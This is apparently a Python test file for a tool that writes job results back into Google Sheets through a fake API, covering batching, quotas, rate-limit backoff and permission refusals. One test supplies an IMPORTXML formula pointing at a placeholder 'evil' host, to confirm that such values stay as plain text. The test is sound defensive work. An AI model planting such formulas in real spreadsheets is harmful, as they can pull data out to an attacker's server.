"""Results written back into the sheet with values.batchUpdate (driven by
sheets_probe) against fake_google.py: batching, the write quota, 429
backoff, RAW values, and the refusals (API key, no Editor access)."""
import json
import sys
import time

from sheets_common import HEADER, OTHER_EMAIL, SA_EMAIL, check, run_tests

COLS = json.dumps({"state": "K", "url": "L", "error": "M"})


def setup_sheets(g):
    rows = [HEADER] + [[f"Idea {i}", "", "", "", "", "", f"Script {i}"] for i in range(2, 40)]
    g.add_sheet("rw", [("Sheet1", rows), ("Team Ideas", rows)], editors=[SA_EMAIL])
    g.add_sheet("ro", [("Sheet1", rows)], viewers=[SA_EMAIL], editors=[OTHER_EMAIL])


def outcomes(rows):
    out = []
    for r in rows:
        if r % 3 == 0:
            out.append({"row": r, "state": "failed",
                        "error": f"row {r}: audio_generation_failed"})
        else:
            out.append({"row": r, "state": "completed",
                        "url": f"https://bucket.example/job_1/{r:04d}.mp4"})
    return out


def test_write_and_read_back(env):
    g = env.google
    rows = [2, 3, 4, 5, 6, 9]
    doc = env.probe("writeback", "rw", "Sheet1!A1:J40", COLS, json.dumps(outcomes(rows)),
                    auth="sa")
    check(doc["calls"] == 1 and doc["ranges"] == 2, doc)
    check(doc["updated_cells"] == 6 * 3, doc)
    (body,) = g.writes
    check(body["valueInputOption"] == "RAW", body)
    check([d["range"] for d in body["data"]] == ["Sheet1!K2:M6", "Sheet1!K9:M9"], body["data"])
    check(body["data"][0]["values"][1] == ["failed", "", "row 3: audio_generation_failed"],
          body["data"][0]["values"])
    (req,) = g.api_requests("POST")
    check(req[1] == "/v4/spreadsheets/rw/values:batchUpdate" and req[3] == "bearer", req)
    # what the sheet now shows, read through the API
    back = env.probe("fetch", "rw", "Sheet1!K1:M10", auth="sa")
    check(back["range"] == "Sheet1!K1:M10" and len(back["rows"]) == 9, back)
    sheet = g.sheets["rw"].tabs[0]
    check(sheet.cell(2, 11) == "completed" and sheet.cell(2, 12).endswith("0002.mp4"),
          sheet.rows[1])
    check(sheet.cell(9, 13) == "row 9: audio_generation_failed", sheet.rows[8])
    check(sheet.cell(7, 11) == "", "row 7 was not in the outcomes")


def test_quoted_tab_and_columns_apart(env):
    g = env.google
    cols = json.dumps({"state": "N", "error": "P"})
    doc = env.probe("writeback", "rw", "'Team Ideas'!A:J", cols, json.dumps(outcomes([2, 3])),
                    auth="sa")
    check(doc["ranges"] == 2, doc)
    check([d["range"] for d in g.writes[0]["data"]] == ["'Team Ideas'!N2:N3",
                                                        "'Team Ideas'!P2:P3"], g.writes)
    check(g.sheets["rw"].tabs[1].cell(3, 16) == "row 3: audio_generation_failed", "tab 2")


def test_batches_and_quota(env):
    g = env.google
    rows = [2, 4, 6, 8, 10, 12, 14]  # not consecutive: one range each
    t0 = time.monotonic()
    doc = env.probe("writeback", "rw", "A1:J40", COLS, json.dumps(outcomes(rows)), auth="sa",
                    extra=["--batch-ranges", "3", "--write-per-min", "2",
                           "--quota-window-ms", "600"])
    elapsed = time.monotonic() - t0
    check(doc["calls"] == 3 and doc["ranges"] == 7, doc)
    check([len(b["data"]) for b in g.writes] == [3, 3, 1], [len(b["data"]) for b in g.writes])
    quota_waits = [w for w in doc["waits"] if w["reason"] == "quota"]
    check(len(quota_waits) == 1, doc["waits"])
    posts = [r[4] for r in g.api_requests("POST")]
    # the third call waits for the first to leave the 600 ms window (less the
    # time the first spent getting its token)
    check(posts[2] - posts[0] >= 0.3, f"third call {posts[2] - posts[0]:.3f} s after the first")
    check(posts[1] - posts[0] < 0.3, "the second call was held back")
    check(elapsed < 10, elapsed)


def test_rate_limited_write(env):
    g = env.google
    from fake_google import RATE_LIMITED
    g.fail_queue[:] = [(429, RATE_LIMITED)]
    doc = env.probe("writeback", "rw", "A1:J40", COLS, json.dumps(outcomes([5])), auth="sa")
    check(doc["calls"] == 1, doc)
    check([w["reason"] for w in doc["waits"]] == ["rate_limited"], doc["waits"])
    check(len(g.writes) == 1, g.writes)


def test_raw_values_are_not_formulas(env):
    g = env.google
    evil = [{"row": 2, "state": "failed", "error": "=IMPORTXML(\"http://evil\", \"//a\")"}]
    env.probe("writeback", "rw", "A1:J40", COLS, json.dumps(evil), auth="sa")
    check(g.writes[0]["valueInputOption"] == "RAW", g.writes)
    check(g.sheets["rw"].tabs[0].cell(2, 13).startswith("=IMPORTXML"), "value changed")


def test_refusals(env):
    g = env.google
    doc = env.probe("writeback", "rw", "A1:J40", COLS, json.dumps(outcomes([2])), auth="key",
                    expect_ok=False)
    check(doc["error_code"] == "writeback_not_allowed" and "service account" in doc["message"],
          doc)
    check(not g.api_requests(), "an API-key write was sent")
    doc = env.probe("writeback", "ro", "A1:J40", COLS, json.dumps(outcomes([2])), auth="sa",
                    expect_ok=False)
    check(doc["error_code"] == "sheet_permission_denied", doc)
    check(f"share the sheet with {SA_EMAIL} as Editor" in doc["message"], doc["message"])
    check(not g.writes, "a write went through")
    doc = env.probe("writeback", "nosuch", "A1:J40", COLS, json.dumps(outcomes([2])), auth="sa",
                    expect_ok=False)
    check(doc["error_code"] == "sheet_not_found", doc)


def main():
    tests = [test_write_and_read_back, test_quoted_tab_and_columns_apart, test_batches_and_quota,
             test_rate_limited_write, test_raw_values_are_not_formulas, test_refusals]

    def with_sheets(t):
        def run(env):
            env.google.sheets.clear()
            setup_sheets(env.google)
            t(env)
        run.__name__ = t.__name__
        return run

    return run_tests([with_sheets(t) for t in tests])


if __name__ == "__main__":
    sys.exit(main())
